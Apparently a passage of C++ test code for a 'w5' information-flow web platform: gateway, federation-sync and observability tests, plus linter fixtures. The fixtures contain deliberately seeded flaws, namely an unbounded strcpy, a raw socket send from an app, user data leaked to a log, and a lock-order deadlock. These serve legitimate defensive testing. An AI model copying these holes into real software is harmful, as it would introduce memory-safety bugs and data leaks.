  EXPECT_EQ(response.headers.get("X-W5-Label"), "sec(bob)");
  EXPECT_EQ(response.headers.get("Content-Security-Policy"),
            "script-src 'none'");
}

TEST_F(GatewayHeadersTest, CleanResponseHasNoLabelHeader) {
  Module hello;
  hello.developer = "dev";
  hello.name = "hello";
  hello.version = "1.0";
  hello.handler = [](AppContext&) {
    return net::HttpResponse::text(200, "hi");
  };
  ASSERT_TRUE(provider_.modules().add(hello).ok());
  const auto response =
      provider_.http(Method::kGet, "/dev/dev/hello", "", bob_);
  EXPECT_FALSE(response.headers.contains("X-W5-Label"));
}

TEST_F(GatewayHeadersTest, NoCspWhenSanitizerDisabled) {
  ProviderConfig config;
  config.strip_javascript = false;
  util::SimClock clock;
  Provider provider(config, clock);
  apps::register_standard_apps(provider);
  ASSERT_TRUE(provider.signup("bob", "bobpw").ok());
  const std::string bob = provider.login("bob", "bobpw").value();
  ASSERT_EQ(provider.http(Method::kPost, "/data/photos/p1",
                          R"({"title":"t"})", bob).status,
            201);
  const auto response = provider.http(
      Method::kGet, "/dev/photoco/photos/view?id=p1", "", bob);
  EXPECT_FALSE(response.headers.contains("Content-Security-Policy"));
}

TEST_F(GatewayHeadersTest, AuditEndpointReturnsScrubbedRecentEvents) {
  // Generate a blocked export for the log.
  ASSERT_TRUE(provider_.signup("eve", "evepw").ok());
  const std::string eve = provider_.login("eve", "evepw").value();
  (void)provider_.http(Method::kGet, "/dev/photoco/photos/view?id=p1", "",
                       eve);

  const auto audit = provider_.http(Method::kGet, "/audit?n=5");
  EXPECT_EQ(audit.status, 200);
  EXPECT_NE(audit.body.find("export.blocked"), std::string::npos);
  // The secret title never reaches the audit surface.
  EXPECT_EQ(audit.body.find("\"t\""), std::string::npos);
  // Limit honored.
  const auto one = provider_.http(Method::kGet, "/audit?n=1");
  std::size_t count = 0;
  for (std::size_t pos = one.body.find("\"kind\""); pos != std::string::npos;
       pos = one.body.find("\"kind\"", pos + 1))
    ++count;
  EXPECT_EQ(count, 1u);
}

TEST_F(GatewayHeadersTest, RequestProcessesAreReaped) {
  const std::size_t before = provider_.kernel().process_table_size();
  for (int i = 0; i < 50; ++i) {
    (void)provider_.http(Method::kGet, "/dev/photoco/photos/view?id=p1", "",
                         bob_);
  }
  // The table did not grow by 50 — per-request processes are reaped.
  EXPECT_LE(provider_.kernel().process_table_size(), before + 2);
  EXPECT_EQ(provider_.kernel().live_process_count(), 0u);
}

}  // namespace
}  // namespace w5::platform
