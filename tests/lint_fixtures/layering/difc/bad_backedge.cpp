// Seeded violation: difc/ is below core/ in the frozen DAG, so this
// include is a layering back-edge w5lint must reject.
#include "core/policy.h"
#include "util/json.h"

namespace w5::difc {
void uses_policy_from_below() {}
}  // namespace w5::difc
