// Seeded taint violation: record bytes reach a log sink with no
// cleanser anywhere on the path. w5flow must report the full chain
// (handle_put -> emit_debug -> log_info), not just the sink line — the
// leak is only visible interprocedurally.
#include <string>

namespace w5::core {

// Source: the value is derived from a store::Record.
std::string describe(const store::Record& record) {
  std::string value = record.value();
  return value;
}

// The leaky hop: its parameter flows to a telemetry sink uncleansed.
void emit_debug(const std::string& text) {
  util::log_info("put", text);
}

// The caller that closes the source->sink path.
void handle_put(const store::Record& record) {
  std::string summary = describe(record);
  emit_debug(summary);
}

}  // namespace w5::core
