// Same breach as perimeter_send/, but the fixture allowlist suppresses
// it — tests that suppression is (check, path-prefix)-scoped.
#include <sys/socket.h>

namespace w5::apps {
void grandfathered(int fd, const char* buf, unsigned long len) {
  ::send(fd, buf, len, 0);
}
}  // namespace w5::apps
