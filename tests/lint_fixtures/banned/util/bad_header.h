// Seeded violation: `using namespace` in a header.
#pragma once

#include <string>

using namespace std;
