// Seeded violations: strcpy (unbounded copy) and rand (global PRNG,
// breaks deterministic runs — util::Rng instead).
#include <cstdlib>
#include <cstring>

namespace w5::util {
void unsafe(char* dst, const char* src) {
  strcpy(dst, src);
  (void)rand();
}
}  // namespace w5::util
