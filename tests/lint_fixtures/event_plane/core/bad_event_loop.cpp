// Seeded violation: a private event loop outside net/ and os/. Readiness
// multiplexing and accept loops belong to the reactor (DESIGN.md §15);
// a second epoll/accept site bypasses its timers, limits, and metrics.
#include <sys/epoll.h>
#include <sys/socket.h>

namespace w5::platform {
int shadow_reactor(int listen_fd) {
  int ep = ::epoll_create1(0);
  epoll_event ev[8];
  (void)::epoll_wait(ep, ev, 8, -1);
  return ::accept(listen_fd, nullptr, nullptr);
}
}  // namespace w5::platform
