// Seeded violation: the trace plane including store/record.h would let
// user data bytes into telemetry (§3.5).
#include "store/record.h"

namespace w5::core {
void trace_sees_records() {}
}  // namespace w5::core
