// Seeded violation: the /debug/statusz aggregator including
// store/record.h would let user data bytes into the debug plane (§3.5).
#include "store/record.h"

namespace w5::core {
void statusz_sees_records() {}
}  // namespace w5::core
