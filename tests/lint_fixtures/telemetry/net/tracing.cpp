// Seeded violation: the cross-hop trace plumbing including
// store/record.h would let user data bytes onto the wire (§3.5).
#include "store/record.h"

namespace w5::net {
void tracing_sees_records() {}
}  // namespace w5::net
