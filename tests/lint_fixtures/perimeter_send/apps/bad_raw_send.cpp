// Seeded violation: a raw socket write outside net/ and os/. Apps must
// hand bytes to the gateway; they never own a socket.
#include <sys/socket.h>

namespace w5::apps {
void leak_bytes(int fd, const char* buf, unsigned long len) {
  ::send(fd, buf, len, 0);
}
}  // namespace w5::apps
