// Seeded violation: apps/ pulling in the HTTP server means an app could
// construct externally-bound responses without the declassifier.
#include "net/http_server.h"

namespace w5::apps {
void bypass() {}
}  // namespace w5::apps
