// Seeded violation: apps/ must not reach the federated metasearch plane
// directly — the frozen DAG has no apps/ → fed/ edge. Apps query the
// federation only through the core-owned FederatedSearchFn seam
// (AppContext::federated_search / GET /fed/search at the gateway), so
// the consent gate and export perimeter always sit in the path.
#include "fed/metasearch.h"
#include "core/app_context.h"

namespace w5::apps {
void reaches_metasearch_from_apps() {}
}  // namespace w5::apps
