// Seeded lock-order cycle: two functions acquire the same pair of
// mutexes in opposite orders — the textbook ABBA deadlock. w5flow's
// pass 2 must report the cycle with both acquisition sites.
namespace w5::core {

class PairedCounters {
 public:
  void bump_left_then_right() {
    util::MutexLock hold_left(left_mutex_);
    util::MutexLock hold_right(right_mutex_);
    ++ticks_;
  }

  void bump_right_then_left() {
    util::MutexLock hold_right(right_mutex_);
    util::MutexLock hold_left(left_mutex_);
    ++ticks_;
  }

 private:
  util::Mutex left_mutex_;
  util::Mutex right_mutex_;
  int ticks_ = 0;
};

}  // namespace w5::core
