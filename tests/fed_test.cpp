#include <gtest/gtest.h>

#include "fed/node.h"
#include "util/rng.h"

namespace w5::fed {
namespace {

TEST(VectorClockTest, TickMergeCompare) {
  VectorClock a, b;
  EXPECT_EQ(a.compare(b), ClockOrder::kEqual);
  a.tick("A");
  EXPECT_EQ(a.compare(b), ClockOrder::kAfter);
  EXPECT_EQ(b.compare(a), ClockOrder::kBefore);
  b.tick("B");
  EXPECT_EQ(a.compare(b), ClockOrder::kConcurrent);
  b.merge(a);
  EXPECT_EQ(b.compare(a), ClockOrder::kAfter);
  EXPECT_EQ(b.at("A"), 1u);
  EXPECT_EQ(b.at("B"), 1u);
  EXPECT_EQ(b.at("C"), 0u);
}

TEST(VectorClockTest, JsonRoundTrip) {
  VectorClock clock;
  clock.tick("providerA");
  clock.tick("providerA");
  clock.tick("providerB");
  auto parsed = VectorClock::from_json(clock.to_json());
  ASSERT_TRUE(parsed.ok());
  EXPECT_EQ(parsed.value(), clock);
  EXPECT_FALSE(VectorClock::from_json(util::Json(3)).ok());
  EXPECT_FALSE(
      VectorClock::from_json(util::Json::parse(R"({"a":-1})").value()).ok());
  EXPECT_EQ(clock.to_string(), "[providerA:2,providerB:1]");
}

// Property: compare() is consistent with merge() — after merging, the
// result dominates both inputs.
class ClockProperty : public ::testing::TestWithParam<std::uint64_t> {};

TEST_P(ClockProperty, MergeDominatesBothInputs) {
  util::Rng rng(GetParam());
  const std::vector<std::string> axes{"A", "B", "C"};
  for (int round = 0; round < 200; ++round) {
    VectorClock a, b;
    for (int i = 0; i < 10; ++i) {
      if (rng.next_bool()) a.tick(axes[rng.next_below(3)]);
      if (rng.next_bool()) b.tick(axes[rng.next_below(3)]);
    }
    VectorClock merged = a;
    merged.merge(b);
    const auto va = merged.compare(a);
    const auto vb = merged.compare(b);
    EXPECT_TRUE(va == ClockOrder::kAfter || va == ClockOrder::kEqual);
    EXPECT_TRUE(vb == ClockOrder::kAfter || vb == ClockOrder::kEqual);
    // Antisymmetry of compare.
    const auto ab = a.compare(b);
    const auto ba = b.compare(a);
    if (ab == ClockOrder::kBefore) {
      EXPECT_EQ(ba, ClockOrder::kAfter);
    }
    if (ab == ClockOrder::kConcurrent) {
      EXPECT_EQ(ba, ClockOrder::kConcurrent);
    }
    if (ab == ClockOrder::kEqual) {
      EXPECT_EQ(ba, ClockOrder::kEqual);
    }
  }
}

INSTANTIATE_TEST_SUITE_P(Seeds, ClockProperty, ::testing::Values(1, 2, 3));

TEST(MirrorAuthorizerTest, ConsentTable) {
  MirrorAuthorizer mirrors;
  EXPECT_FALSE(mirrors.authorized("bob", "providerB"));
  EXPECT_EQ(mirrors.check("bob", "providerB").error().code,
            "fed.unauthorized");
  mirrors.authorize("bob", "providerB");
  EXPECT_TRUE(mirrors.authorized("bob", "providerB"));
  EXPECT_TRUE(mirrors.check("bob", "providerB").ok());
  EXPECT_FALSE(mirrors.authorized("bob", "providerC"));
  EXPECT_EQ(mirrors.users_for("providerB"),
            (std::vector<std::string>{"bob"}));
  mirrors.revoke("bob", "providerB");
  EXPECT_FALSE(mirrors.authorized("bob", "providerB"));
}

class FederationTest : public ::testing::Test {
 protected:
  FederationTest()
      : provider_a_(platform::ProviderConfig{.name = "providerA"}, clock_),
        provider_b_(platform::ProviderConfig{.name = "providerB"}, clock_),
        node_a_("providerA", provider_a_, network_),
        node_b_("providerB", provider_b_, network_) {}

  void SetUp() override {
    // Bob has linked accounts on both providers (§3.3).
    ASSERT_TRUE(provider_a_.signup("bob", "pwd").ok());
    ASSERT_TRUE(provider_b_.signup("bob", "pwd").ok());
    ASSERT_TRUE(provider_a_.signup("amy", "pwd").ok());
    ASSERT_TRUE(provider_b_.signup("amy", "pwd").ok());
  }

  void authorize_bob_both_ways() {
    node_a_.mirrors().authorize("bob", "providerB");
    node_b_.mirrors().authorize("bob", "providerA");
  }

  util::SimClock clock_;
  net::InMemoryNetwork network_;
  platform::Provider provider_a_;
  platform::Provider provider_b_;
  Node node_a_;
  Node node_b_;
};

TEST_F(FederationTest, MirrorsAuthorizedUserData) {
  authorize_bob_both_ways();
  util::Json photo;
  photo["title"] = "sunset";
  ASSERT_TRUE(node_a_.put_user_record("bob", "photos", "p1", photo).ok());

  auto stats = node_b_.sync_from("providerA");
  ASSERT_TRUE(stats.ok());
  EXPECT_EQ(stats.value().applied, 1u);

  auto replicated =
      provider_b_.store().get(os::kKernelPid, "photos", "p1");
  ASSERT_TRUE(replicated.ok());
  EXPECT_EQ(replicated.value().data.at("title").as_string(), "sunset");
  EXPECT_EQ(replicated.value().owner, "bob");
  // Re-classified under provider B's tags for bob.
  const auto* bob_b = provider_b_.users().find("bob");
  EXPECT_EQ(replicated.value().labels.secrecy,
            difc::Label{bob_b->secrecy_tag});
}

TEST_F(FederationTest, UnauthorizedUserIsNotMirrored) {
  authorize_bob_both_ways();
  util::Json diary;
  diary["note"] = "amy's private";
  ASSERT_TRUE(node_a_.put_user_record("amy", "diary", "d1", diary).ok());
  auto stats = node_b_.sync_from("providerA");
  ASSERT_TRUE(stats.ok());
  EXPECT_EQ(stats.value().applied, 0u);
  EXPECT_EQ(provider_b_.store().get(os::kKernelPid, "diary", "d1")
                .error().code,
            "store.not_found");
}

TEST_F(FederationTest, PeerSideConsentIsAlsoRequired) {
  // B thinks bob consented, but on A (the data holder) bob did not: the
  // serving side must refuse.
  node_b_.mirrors().authorize("bob", "providerA");
  util::Json photo;
  photo["title"] = "x";
  ASSERT_TRUE(node_a_.put_user_record("bob", "photos", "p1", photo).ok());
  auto stats = node_b_.sync_from("providerA");
  ASSERT_FALSE(stats.ok());
  EXPECT_EQ(stats.error().code, "fed.pull_failed");
  EXPECT_GE(provider_a_.audit().count(platform::AuditKind::kExportBlocked),
            1u);
}

TEST_F(FederationTest, RepeatSyncIsIdempotent) {
  authorize_bob_both_ways();
  util::Json photo;
  photo["title"] = "sunset";
  ASSERT_TRUE(node_a_.put_user_record("bob", "photos", "p1", photo).ok());
  ASSERT_TRUE(node_b_.sync_from("providerA").ok());
  auto again = node_b_.sync_from("providerA");
  ASSERT_TRUE(again.ok());
  EXPECT_EQ(again.value().applied, 0u);
  EXPECT_EQ(again.value().offered, 0u);  // clock filter on the serving side
  // And the reverse direction doesn't bounce the record back.
  auto reverse = node_a_.sync_from("providerB");
  ASSERT_TRUE(reverse.ok());
  EXPECT_EQ(reverse.value().applied, 0u);
}

TEST_F(FederationTest, UpdatePropagatesAfterResync) {
  authorize_bob_both_ways();
  util::Json v1;
  v1["title"] = "v1";
  ASSERT_TRUE(node_a_.put_user_record("bob", "photos", "p1", v1).ok());
  ASSERT_TRUE(node_b_.sync_from("providerA").ok());
  clock_.advance(10);
  util::Json v2;
  v2["title"] = "v2";
  ASSERT_TRUE(node_a_.put_user_record("bob", "photos", "p1", v2).ok());
  auto stats = node_b_.sync_from("providerA");
  ASSERT_TRUE(stats.ok());
  EXPECT_EQ(stats.value().applied, 1u);
  EXPECT_EQ(provider_b_.store().get(os::kKernelPid, "photos", "p1").value()
                .data.at("title").as_string(),
            "v2");
}

TEST_F(FederationTest, ConcurrentEditsConvergeDeterministically) {
  authorize_bob_both_ways();
  util::Json base;
  base["title"] = "base";
  ASSERT_TRUE(node_a_.put_user_record("bob", "photos", "p1", base).ok());
  ASSERT_TRUE(node_b_.sync_from("providerA").ok());

  // Divergent edits: A at t=100, B at t=200 (B is newer).
  clock_.advance(100);
  util::Json edit_a;
  edit_a["title"] = "edit from A";
  ASSERT_TRUE(node_a_.put_user_record("bob", "photos", "p1", edit_a).ok());
  clock_.advance(100);
  util::Json edit_b;
  edit_b["title"] = "edit from B";
  ASSERT_TRUE(node_b_.put_user_record("bob", "photos", "p1", edit_b).ok());

  auto stats_b = node_b_.sync_from("providerA");
  ASSERT_TRUE(stats_b.ok());
  EXPECT_EQ(stats_b.value().conflicts, 1u);
  auto stats_a = node_a_.sync_from("providerB");
  ASSERT_TRUE(stats_a.ok());

  // Both converge on the later edit.
  const auto title_a = provider_a_.store()
                           .get(os::kKernelPid, "photos", "p1").value()
                           .data.at("title").as_string();
  const auto title_b = provider_b_.store()
                           .get(os::kKernelPid, "photos", "p1").value()
                           .data.at("title").as_string();
  EXPECT_EQ(title_a, "edit from B");
  EXPECT_EQ(title_b, "edit from B");
  // Clocks converge too.
  EXPECT_EQ(node_a_.clock_of("photos", "p1")
                .compare(node_b_.clock_of("photos", "p1")),
            ClockOrder::kEqual);
}

TEST_F(FederationTest, SimultaneousTimestampsTieBreakByName) {
  authorize_bob_both_ways();
  // Same SimClock instant on both sides: pure tie.
  util::Json edit_a;
  edit_a["title"] = "from A";
  util::Json edit_b;
  edit_b["title"] = "from B";
  ASSERT_TRUE(node_a_.put_user_record("bob", "photos", "p1", edit_a).ok());
  ASSERT_TRUE(node_b_.put_user_record("bob", "photos", "p1", edit_b).ok());
  ASSERT_TRUE(node_b_.sync_from("providerA").ok());
  ASSERT_TRUE(node_a_.sync_from("providerB").ok());
  const auto title_a = provider_a_.store()
                           .get(os::kKernelPid, "photos", "p1").value()
                           .data.at("title").as_string();
  const auto title_b = provider_b_.store()
                           .get(os::kKernelPid, "photos", "p1").value()
                           .data.at("title").as_string();
  EXPECT_EQ(title_a, title_b);  // same winner on both sides
}

TEST_F(FederationTest, PartitionThenHeal) {
  authorize_bob_both_ways();
  // "Partition": just don't sync while both sides accumulate writes.
  for (int i = 0; i < 5; ++i) {
    util::Json a;
    a["n"] = i;
    ASSERT_TRUE(node_a_.put_user_record("bob", "photos",
                                        "a" + std::to_string(i), a).ok());
    util::Json b;
    b["n"] = i;
    ASSERT_TRUE(node_b_.put_user_record("bob", "photos",
                                        "b" + std::to_string(i), b).ok());
  }
  // Heal: both pull.
  ASSERT_TRUE(node_b_.sync_from("providerA").ok());
  ASSERT_TRUE(node_a_.sync_from("providerB").ok());
  for (int i = 0; i < 5; ++i) {
    EXPECT_TRUE(provider_a_.store()
                    .get(os::kKernelPid, "photos", "b" + std::to_string(i))
                    .ok());
    EXPECT_TRUE(provider_b_.store()
                    .get(os::kKernelPid, "photos", "a" + std::to_string(i))
                    .ok());
  }
}

TEST_F(FederationTest, UnknownPeerIsUnreachable) {
  node_a_.mirrors().authorize("bob", "ghost");
  auto stats = node_a_.sync_from("ghost");
  ASSERT_FALSE(stats.ok());
  EXPECT_EQ(stats.error().code, "net.unreachable");
}

TEST_F(FederationTest, UserMissingOnReceivingSideFailsCleanly) {
  // carol exists only on A.
  ASSERT_TRUE(provider_a_.signup("carol", "pwd").ok());
  node_a_.mirrors().authorize("carol", "providerB");
  node_b_.mirrors().authorize("carol", "providerA");
  util::Json data;
  ASSERT_TRUE(node_a_.put_user_record("carol", "notes", "n1", data).ok());
  auto stats = node_b_.sync_from("providerA");
  ASSERT_FALSE(stats.ok());
  EXPECT_EQ(stats.error().code, "user.not_found");
}

}  // namespace
}  // namespace w5::fed
