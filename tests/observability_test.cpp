// Observability plane (DESIGN.md §11): metrics registry math, request
// tracing end-to-end, the /metrics and /trace endpoints, audit tail
// queries, and — the §3.5 invariant — proof that no telemetry channel
// ever carries user data bytes.
#include <gtest/gtest.h>

#include <algorithm>
#include <atomic>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

#include "core/gateway.h"
#include "core/provider.h"
#include "core/trace.h"
#include "difc/label_table.h"
#include "os/thread_pool.h"
#include "util/log.h"
#include "util/metrics.h"

namespace w5 {
namespace {

using net::HttpResponse;
using net::Method;
using platform::AppContext;
using platform::Module;
using platform::Provider;
using platform::ProviderConfig;
using platform::RequestContext;
using platform::ScopedSpan;
using platform::TraceBuffer;

// ---- Histogram bucket math --------------------------------------------------

TEST(ObservabilityHistogram, BucketsCountsAndSum) {
  util::Histogram h({10, 20, 30});
  for (const std::int64_t v : {5, 10, 15, 25, 100}) h.observe(v);
  if (!util::kTelemetryEnabled) return;  // observe() compiled out

  EXPECT_EQ(h.count(), 5u);
  EXPECT_EQ(h.sum(), 155);
  // Bounds are inclusive upper edges: 10 lands in the first bucket.
  const auto counts = h.bucket_counts();
  ASSERT_EQ(counts.size(), 4u);  // 3 finite + the +Inf overflow
  EXPECT_EQ(counts[0], 2u);      // 5, 10
  EXPECT_EQ(counts[1], 1u);      // 15
  EXPECT_EQ(counts[2], 1u);      // 25
  EXPECT_EQ(counts[3], 1u);      // 100 → +Inf
}

TEST(ObservabilityHistogram, PercentilesInterpolateWithinBucket) {
  util::Histogram h({100, 200});
  if (!util::kTelemetryEnabled) return;
  // 100 samples uniformly in the (0,100] bucket.
  for (int i = 0; i < 100; ++i) h.observe(50);
  // All mass in one bucket: p50 interpolates to the bucket midpoint.
  EXPECT_NEAR(h.percentile(50), 50.0, 1.0);
  EXPECT_NEAR(h.percentile(100), 100.0, 1e-9);
  // Values past the last finite bound report that bound, not infinity.
  for (int i = 0; i < 1000; ++i) h.observe(10'000);
  EXPECT_DOUBLE_EQ(h.percentile(99), 200.0);
}

TEST(ObservabilityHistogram, EmptyHistogramReportsZero) {
  util::Histogram h({10});
  EXPECT_EQ(h.count(), 0u);
  EXPECT_DOUBLE_EQ(h.percentile(50), 0.0);
}

TEST(ObservabilityRegistry, PrometheusRenderGroupsFamilies) {
  util::MetricsRegistry registry;
  registry.counter("t_requests{route=\"/a\"}").inc(2);
  registry.counter("t_requests{route=\"/b\"}").inc(3);
  registry.gauge("t_depth").set(7);
  registry.histogram("t_latency", {10, 100}).observe(42);
  const std::string text = registry.to_prometheus();
  if (!util::kTelemetryEnabled) return;

  // One TYPE line per family, not per labeled series.
  EXPECT_EQ(text.find("# TYPE t_requests counter"),
            text.rfind("# TYPE t_requests counter"));
  EXPECT_NE(text.find("t_requests{route=\"/a\"} 2"), std::string::npos);
  EXPECT_NE(text.find("t_requests{route=\"/b\"} 3"), std::string::npos);
  EXPECT_NE(text.find("t_depth 7"), std::string::npos);
  // Cumulative histogram buckets with the +Inf edge.
  EXPECT_NE(text.find("t_latency_bucket{le=\"100\"} 1"), std::string::npos);
  EXPECT_NE(text.find("t_latency_bucket{le=\"+Inf\"} 1"), std::string::npos);
  EXPECT_NE(text.find("t_latency_count 1"), std::string::npos);
}

// ---- Trace machinery --------------------------------------------------------

TEST(ObservabilityTrace, IdsAreValidAndUnique) {
  const std::string a = platform::next_trace_id();
  const std::string b = platform::next_trace_id();
  // 12 hex chars: 48 mixed bits, and short enough that every copy of the
  // id (header echo, audit stamp, thread-local) stays within SSO.
  EXPECT_EQ(a.size(), 12u);
  EXPECT_NE(a, b);
  EXPECT_TRUE(platform::valid_trace_id(a));
  EXPECT_FALSE(platform::valid_trace_id(""));
  EXPECT_FALSE(platform::valid_trace_id("has space"));
  EXPECT_FALSE(platform::valid_trace_id(std::string(65, 'a')));
}

TEST(ObservabilityTrace, RingBufferEvictsOldest) {
  TraceBuffer buffer(2);
  for (int i = 0; i < 3; ++i) {
    platform::Trace trace;
    trace.id = "trace-" + std::to_string(i);
    buffer.record(std::move(trace));
  }
  EXPECT_EQ(buffer.size(), 2u);
  EXPECT_EQ(buffer.recorded(), 3u);
  EXPECT_FALSE(buffer.find("trace-0").has_value());
  EXPECT_TRUE(buffer.find("trace-1").has_value());
  EXPECT_TRUE(buffer.find("trace-2").has_value());
}

TEST(ObservabilityTrace, NestedContextsRestoreOnUnwind) {
  if (!util::kTelemetryEnabled) return;
  EXPECT_EQ(RequestContext::current(), nullptr);
  RequestContext outer;
  EXPECT_EQ(RequestContext::current(), &outer);
  {
    RequestContext inner;
    EXPECT_EQ(RequestContext::current(), &inner);
    EXPECT_NE(inner.id(), outer.id());
  }
  EXPECT_EQ(RequestContext::current(), &outer);
  EXPECT_EQ(RequestContext::current_id(), outer.id());
}

// ---- End-to-end through the gateway ----------------------------------------

class ObservabilityGatewayTest : public ::testing::Test {
 protected:
  void SetUp() override {
    ASSERT_TRUE(provider_.signup("alice", "password1").ok());
    ASSERT_TRUE(provider_.signup("bob", "password2").ok());
    alice_ = provider_.login("alice", "password1").value();
    bob_ = provider_.login("bob", "password2").value();

    Module viewer;
    viewer.developer = "mallory";
    viewer.name = "viewer";
    viewer.version = "1.0";
    viewer.handler = [](AppContext& ctx) {
      auto secret = ctx.get_record("secrets", "s1");
      if (!secret.ok()) return HttpResponse::text(404, "none");
      return HttpResponse::text(200, secret.value().data.dump());
    };
    ASSERT_TRUE(provider_.modules().add(viewer).ok());
  }

  util::WallClock clock_;
  Provider provider_{ProviderConfig{}, clock_};
  std::string alice_;
  std::string bob_;
};

TEST_F(ObservabilityGatewayTest, TraceIdRoundTripsAndResolves) {
  if (!util::kTelemetryEnabled) return;
  const auto response = provider_.http(Method::kGet, "/whoami", "", alice_);
  ASSERT_EQ(response.status, 200);
  const auto trace_id = response.headers.get("X-W5-Trace");
  ASSERT_TRUE(trace_id.has_value());
  EXPECT_TRUE(platform::valid_trace_id(*trace_id));

  const auto dump =
      provider_.http(Method::kGet, "/trace/" + *trace_id, "", alice_);
  ASSERT_EQ(dump.status, 200);
  auto parsed = util::Json::parse(dump.body);
  ASSERT_TRUE(parsed.ok());
  EXPECT_EQ(parsed.value().at("id").as_string(), *trace_id);
  // The trace records the route *pattern*, never the raw target.
  EXPECT_EQ(parsed.value().at("route").as_string(), "/whoami");
  EXPECT_EQ(parsed.value().at("status").as_int(), 200);
}

TEST_F(ObservabilityGatewayTest, InboundTraceHeaderValidatedBeforeReuse) {
  if (!util::kTelemetryEnabled) return;
  net::HttpRequest request;
  request.method = Method::kGet;
  request.target = "/whoami";
  request.parsed = *net::parse_request_target("/whoami");
  request.headers.set("X-W5-Trace", "upstream-trace-42");
  auto response = provider_.handle(request);
  EXPECT_EQ(response.headers.get("X-W5-Trace").value_or(""),
            "upstream-trace-42");

  // Invalid bytes must not round-trip into telemetry: a fresh id is
  // minted instead.
  request.headers.set("X-W5-Trace", "bad header!{}");
  response = provider_.handle(request);
  const std::string echoed = response.headers.get("X-W5-Trace").value_or("");
  EXPECT_NE(echoed, "bad header!{}");
  EXPECT_TRUE(platform::valid_trace_id(echoed));
}

TEST_F(ObservabilityGatewayTest, AppRequestTraceHasSpansAndAuditStamp) {
  if (!util::kTelemetryEnabled) return;
  ASSERT_EQ(provider_
                .http(Method::kPost, "/data/secrets/s1", R"({"secret":"x"})",
                      alice_)
                .status,
            201);
  // Bob invokes the viewer app: it reads alice's record, so the response
  // is blocked at the perimeter — and the trace shows the whole path.
  // Forwarding an X-W5-Trace id opts this request into full span
  // recording (head sampling would otherwise trace only 1-in-N).
  net::HttpRequest request;
  request.method = Method::kGet;
  request.target = "/dev/mallory/viewer";
  request.parsed = *net::parse_request_target(request.target);
  request.headers.set("Cookie",
                      std::string(platform::kSessionCookie) + "=" + bob_);
  request.headers.set("X-W5-Trace", "span-dump-please");
  const auto response = provider_.handle(request);
  EXPECT_EQ(response.status, 403);
  const std::string trace_id =
      response.headers.get("X-W5-Trace").value_or("");
  ASSERT_EQ(trace_id, "span-dump-please");

  const auto dump =
      provider_.http(Method::kGet, "/trace/" + trace_id, "", bob_);
  ASSERT_EQ(dump.status, 200);
  std::vector<std::string> names;
  auto parsed = util::Json::parse(dump.body);
  ASSERT_TRUE(parsed.ok());
  for (const auto& span : parsed.value().at("spans").as_array())
    names.push_back(span.at("name").as_string());
  EXPECT_NE(std::find(names.begin(), names.end(), "kernel.spawn"),
            names.end());
  EXPECT_NE(std::find(names.begin(), names.end(), "app"), names.end());
  EXPECT_NE(std::find(names.begin(), names.end(), "store.get"), names.end());
  EXPECT_NE(std::find(names.begin(), names.end(), "declassify"), names.end());

  // Audit events recorded during the request carry the same trace id.
  bool stamped = false;
  for (const auto& event : provider_.audit().events()) {
    if (event.trace == trace_id) stamped = true;
  }
  EXPECT_TRUE(stamped);
}

TEST_F(ObservabilityGatewayTest, AuditTailQueryPagesWithoutFullCopy) {
  for (int i = 0; i < 10; ++i) {
    provider_.audit().record(platform::AuditKind::kAdmin, "tester",
                             "subject" + std::to_string(i), "detail");
  }
  const auto all = provider_.audit().events();
  ASSERT_GE(all.size(), 10u);
  const auto tail = provider_.audit().events(3, 0);
  ASSERT_EQ(tail.size(), 3u);
  // Newest three, oldest-first.
  EXPECT_EQ(tail.back().subject, all.back().subject);
  EXPECT_EQ(tail.front().subject, all[all.size() - 3].subject);

  // since_micros cuts the window: a cutoff after the last event → empty.
  const auto none = provider_.audit().events(100, all.back().at + 1);
  EXPECT_TRUE(none.empty());
  // And the HTTP surface pages the same way.
  const auto response = provider_.http(Method::kGet, "/audit?n=3", "", alice_);
  ASSERT_EQ(response.status, 200);
  auto parsed = util::Json::parse(response.body);
  ASSERT_TRUE(parsed.ok());
  EXPECT_EQ(parsed.value().at("events").as_array().size(), 3u);
  EXPECT_EQ(static_cast<std::size_t>(parsed.value().at("total").as_int()),
            provider_.audit().size());
}

TEST_F(ObservabilityGatewayTest, MetricsEndpointServesBothFormats) {
  if (!util::kTelemetryEnabled) return;
  ASSERT_EQ(provider_.http(Method::kGet, "/whoami", "", alice_).status, 200);

  const auto text = provider_.http(Method::kGet, "/metrics", "", alice_);
  ASSERT_EQ(text.status, 200);
  EXPECT_NE(text.headers.get("Content-Type").value_or("").find("text/plain"),
            std::string::npos);
  EXPECT_NE(text.body.find("w5_requests_total"), std::string::npos);
  EXPECT_NE(text.body.find("w5_request_latency_micros_bucket"),
            std::string::npos);
  EXPECT_NE(text.body.find(
                "w5_route_requests_total{method=\"GET\",route=\"/whoami\"}"),
            std::string::npos);
  EXPECT_NE(text.body.find("w5_flow_cache_hits"), std::string::npos);
  EXPECT_NE(text.body.find("w5_store_shard_ops{shard=\"15\"}"),
            std::string::npos);

  const auto json =
      provider_.http(Method::kGet, "/metrics?format=json", "", alice_);
  ASSERT_EQ(json.status, 200);
  auto parsed = util::Json::parse(json.body);
  ASSERT_TRUE(parsed.ok());
  EXPECT_GT(parsed.value()
                .at("counters")
                .at("w5_requests_total")
                .as_int(),
            0);
  const auto& latency =
      parsed.value().at("histograms").at("w5_request_latency_micros");
  EXPECT_GT(latency.at("count").as_int(), 0);
  EXPECT_TRUE(latency.contains("p50"));
  EXPECT_TRUE(latency.contains("p99"));
}

// 8 threads hammer the provider; afterwards the counters must add up
// exactly — lock-free updates may not lose increments.
TEST_F(ObservabilityGatewayTest, ObservabilityCountersExactUnderConcurrency) {
  if (!util::kTelemetryEnabled) return;
  constexpr int kThreads = 8;
  constexpr int kIters = 100;

  const std::uint64_t before =
      provider_.metrics().counter("w5_requests_total").value();
  std::vector<std::thread> threads;
  threads.reserve(kThreads);
  for (int t = 0; t < kThreads; ++t) {
    threads.emplace_back([&, t] {
      const std::string& session = t % 2 == 0 ? alice_ : bob_;
      const std::string record = "/data/notes/obs-t" + std::to_string(t);
      for (int i = 0; i < kIters; ++i) {
        (void)provider_.http(Method::kPost, record, R"({"v":1})", session);
        (void)provider_.http(Method::kGet, "/whoami", "", session);
      }
    });
  }
  for (auto& thread : threads) thread.join();

  const std::uint64_t after =
      provider_.metrics().counter("w5_requests_total").value();
  EXPECT_EQ(after - before,
            static_cast<std::uint64_t>(kThreads) * kIters * 2);
  EXPECT_GE(provider_.metrics().histogram("w5_request_latency_micros").count(),
            after - before);
  // Store counters: every POST /data is one put.
